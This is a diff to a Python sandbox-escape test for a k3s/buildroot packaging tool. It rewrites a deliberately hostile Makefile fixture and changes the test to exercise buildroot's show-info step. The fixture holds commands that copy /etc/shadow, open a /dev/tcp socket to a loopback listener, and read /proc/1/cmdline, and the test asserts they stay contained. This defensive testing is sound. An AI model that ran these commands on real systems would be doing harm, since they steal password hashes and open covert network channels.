@@ -16,7 +16,7 @@ import pytest
 from emtk3s.infra import sandbox
 from emtk3s.infra.errors import InputError
 from emtk3s.packages.k3s.vendor import check_goproxy
-from emtk3s.packages.k3s_root.downloads import make_dl
+from emtk3s.packages.k3s_root.showinfo import _compute as buildroot_show_info
 
 pytestmark = pytest.mark.skipif(sandbox.available() is not None, reason="no bubblewrap here")
 
@@ -53,16 +53,18 @@ def _tgz(path: Path, files: dict[str, str]) -> Path:
 
 # a hostile buildroot Makefile (our own text; buildroot's real one runs arbitrary package code)
 HOSTILE_MAKEFILE = """\
-.PHONY: olddefconfig source
+.PHONY: olddefconfig show-info printvars
 olddefconfig:
 \t-touch {mark}.olddefconfig
 \t-cp /etc/shadow $(HOME)/stolen-shadow
 \t-bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo ESCAPED >&3'
 \t-touch /usr/emtk3s-hostile
 \t-cat /proc/1/cmdline > $(HOME)/pid1
-source:
-\t-touch {mark}.source
-\tmkdir -p $(BR2_DL_DIR)/x && echo x > $(BR2_DL_DIR)/x/x.tar.gz
+show-info:
+\t-@touch {mark}.show-info
+\t@echo '{{}}'
+printvars:
+\t@echo 'X_HASH_FILES=package/x/x.hash'
 """
 
 
@@ -71,16 +73,18 @@ def test_buildroot_makefile_runs_contained(tmp_path: Path) -> None:
     mark = tmp_path / "outside" / "escaped"
     mark.parent.mkdir()
     makefile = HOSTILE_MAKEFILE.format(mark=mark, port=srv.getsockname()[1])
-    br = _tgz(tmp_path / "br.tgz", {"buildroot-x/Makefile": makefile})
-    kr = _tgz(
-        tmp_path / "kr.tgz",
-        {"k3s-root-x/buildroot/amd64config": "A=1\n", "k3s-root-x/buildroot/config": "B=1\n"},
-    )
-    work = tmp_path / "work"
-    work.mkdir()
-    out = make_dl(br, kr, ["x86_64"], tmp_path / "dl.tar.gz", 0, work)
+    # buildroot's show-info at resolve time (k3s-root's download list) runs this Makefile
+    br = tmp_path / "work"
+    (br / "package").mkdir(parents=True)
+    (br / "Makefile").write_text(makefile)
+    kr = tmp_path / "kr"
+    (kr / "buildroot").mkdir(parents=True)
+    (kr / "buildroot/amd64config").write_text("A=1\n")
+    (kr / "buildroot/config").write_text("B=1\n")
+    work = br
+    facts = buildroot_show_info(br, kr, ["x86_64"])
+    assert facts["downloads"] == []
     srv.close()
-    assert out.is_file()
     assert not list(mark.parent.iterdir()), "a generator wrote outside its work tree"
     assert hits == [], "a generator without a download reached a host loopback listener"
     assert not (work / "stolen-shadow").exists() or not (work / "stolen-shadow").read_bytes()
